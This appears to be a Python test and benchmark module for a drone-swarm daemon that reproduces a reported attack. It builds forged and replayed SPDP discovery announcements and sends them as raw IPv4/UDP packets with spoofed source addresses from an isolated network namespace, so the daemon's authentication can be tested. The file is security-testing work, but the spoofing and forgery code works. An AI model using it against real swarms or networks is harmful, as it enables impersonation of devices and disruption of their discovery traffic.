"""Issue 18 attack 1: forged SPDP from the swarm's own addresses, at a bounded rate.

Any host on the link can put any source address on a datagram. The attacker here sends raw
IPv4 (``IPPROTO_RAW``: it writes the IP header itself) claiming, as the issue did, the
commander's exact address (its IP and metatraffic port) to the multicast group and to each
member's metatraffic port, and each member's exact address to the group and to the
commander. The datagrams are what the attacker can make from what it sniffed: each drone's
own announcement under its own prefix, with a freshness newer than the real one (so the
cheap replay check passes), signed with the attacker's key and carrying random receiver
tags in the genuine window (its best guess); every fourth one is a plain replay of a sniffed
authenticator. Shared by ``tests/test_attacks_spoof_netns.py`` and ``bench/spoof.py``.

The pool is built with the ``swarmd.auth.spdp.seal`` of the code under test, so the same
attack runs against a daemon from before the receiver tags (``bench/spoof.py``'s "before":
no tags, the issue-10 authenticator), as the issue ran it.
"""

from __future__ import annotations

import contextlib
import dataclasses
import inspect
import random
import socket
import struct
import time
from collections.abc import Sequence
from typing import Any, Final

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from swarmd_lab.netns import Namespace

from swarmd.auth import spdp as spdp_auth
from swarmd.auth.freshness import Freshness
from swarmd.rtps.spdp import encode_spdp
from tests.attacker.host import Attacker
from tests.attacker.swarm import FlashedSwarm

TAG_BYTES: Final = 2  # swarmd.auth.tags (not imported: the same file runs against aa7ad0f)
# spoofed (source, destination, payload) streams, sent round-robin
Stream = tuple[tuple[str, int], tuple[str, int], bytes]


class _RandomTags:
    """Random receiver tags in the genuine window: what an outsider can do without keys."""

    def __init__(self, rng: random.Random, peers: int) -> None:
        self._rng = rng
        self._peers = peers

    def slots(self, destination: bytes | None) -> tuple[int, int]:
        return (self._rng.randrange(self._peers), 1) if destination else (0, self._peers)

    def make(self, start: int, count: int, head: bytes, meta_fresh: bytes) -> bytes:
        return self._rng.randbytes((TAG_BYTES * count + 3) & ~3)


def _seal(template: bytes, freshness: Freshness, signer: Any, tags: _RandomTags) -> bytes:
    seal: Any = spdp_auth.seal
    if "tags" in inspect.signature(seal).parameters:
        return bytes(seal(template, freshness, signer, tags))
    return bytes(seal(template, freshness, signer))  # before receiver tags (aa7ad0f)


def spoof_pool(
    sw: FlashedSwarm, atk: Attacker, per_stream: int, seed: int, *, claim: str = "all"
) -> list[Stream]:
    """``per_stream`` distinct forgeries for each spoofed stream, interleaved: ``claim``
    "all" = the 7 streams of the module docstring (as the commander and as each member),
    "commander" = only the commander's 3 (to the group and to each member: the issue's
    attack, its whole rate on the commander's budget). Waits (bounded) until the attacker
    has heard every drone."""
    atk.wait_for(
        lambda: all((m := atk.member(n)) is not None and m.freshness for n in sw.names), 60.0
    )
    rng = random.Random(seed)
    signer = Ed25519PrivateKey.generate()
    group = sw.spdp_group
    streams: list[tuple[int, tuple[str, int], bool]] = [(0, group, False)]
    streams += [(0, sw.meta_addr(m), True) for m in range(1, sw.n)]
    if claim == "all":
        for m in range(1, sw.n):
            streams += [(m, group, False), (m, sw.meta_addr(0), True)]
    per: list[list[Stream]] = []
    for claimed, to, directed in streams:
        learned = atk.member(sw.names[claimed])
        assert learned is not None and learned.freshness is not None
        real, fresh = learned.participant, learned.freshness
        victim = next((i for i in range(sw.n) if sw.meta_addr(i) == to), None)  # the unicast victim
        out: list[Stream] = []
        for k in range(per_stream):
            if k % 4 == 3 and learned.raw:
                out.append((sw.meta_addr(claimed), to, learned.raw))  # a replay
                continue
            destination = (
                sw.participant(victim).guid_prefix if directed and victim is not None else None
            )
            template = encode_spdp(
                dataclasses.replace(real, authenticator=spdp_auth.PLACEHOLDER),
                sequence_number=2_000_000 + k,
                timestamp=None,
                destination=destination,
            )
            freshness = Freshness(fresh.epoch, fresh.seq + 1_000_000 + k)
            out.append(
                (
                    sw.meta_addr(claimed),
                    to,
                    _seal(template, freshness, signer, _RandomTags(rng, sw.n - 1)),
                )
            )
        per.append(out)
    return [s for group_of in zip(*per, strict=True) for s in group_of]


def _checksum(header: bytes) -> int:
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def ip_udp(source: tuple[str, int], to: tuple[str, int], payload: bytes) -> bytes:
    """One IPv4 + UDP packet claiming ``source`` (UDP checksum 0: none, RFC 768)."""
    udp = struct.pack("!HHHH", source[1], to[1], 8 + len(payload), 0) + payload
    ttl = 1 if 224 <= int(to[0].split(".")[0]) <= 239 else 64
    src, dst = socket.inet_aton(source[0]), socket.inet_aton(to[0])
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, ttl, 17, 0, src, dst)
    head = head[:10] + struct.pack("!H", _checksum(head)) + head[12:]
    return head + udp


class Spoofer:
    """Raw IPv4 from the attacker's namespace: any source address and port on the link."""

    def __init__(self, ns: Namespace) -> None:
        self._sock = ns.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        # multicast leaves by the LAN interface (the namespace may have no multicast route)
        self._sock.setsockopt(
            socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ns.address)
        )
        self._sock.setblocking(False)
        self.sent = 0

    def paced(self, pool: Sequence[Stream], *, rate_hz: float, max_count: int, max_s: float) -> int:
        """Send ``pool`` round-robin at ``rate_hz`` (bounded by count and by time)."""
        packets = [(ip_udp(src, to, payload), to[0]) for src, to, payload in pool]
        if not packets:
            return 0
        start = time.monotonic()
        sent = 0
        while sent < max_count:
            now = time.monotonic()
            if now - start >= max_s:
                break
            due = min(int((now - start) * rate_hz) + 1, max_count)
            while sent < due:
                packet, host = packets[sent % len(packets)]
                with contextlib.suppress(BlockingIOError):
                    self._sock.sendto(packet, (host, 0))
                sent += 1
            time.sleep(min(0.002, 1.0 / rate_hz))
        self.sent += sent
        return sent

    def close(self) -> None:
        self._sock.close()
